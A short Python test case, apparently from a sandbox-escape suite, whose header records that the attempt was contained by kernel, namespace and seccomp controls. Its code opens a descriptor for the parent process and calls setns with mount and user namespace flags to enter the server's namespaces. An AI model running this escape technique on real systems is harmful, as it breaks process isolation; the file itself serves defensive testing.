# attack: enters another process's namespaces by a descriptor for it, which needs no path in /proc
# full: contained
# reduced: contained
# stopped-by: kernel, namespaces, seccomp
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(numbers, *arguments):
    number = numbers.get(platform.machine())
    if number is None:
        raise OSError("no system call numbers for this machine")
    whole = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result = libc.syscall(ctypes.c_long(number), *whole)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def attack():
    holder = os.pidfd_open(os.getppid())
    syscall({"x86_64": 308, "aarch64": 268}, holder, 0x00020000 | 0x10000000)
    return "through: in the namespaces of the server"
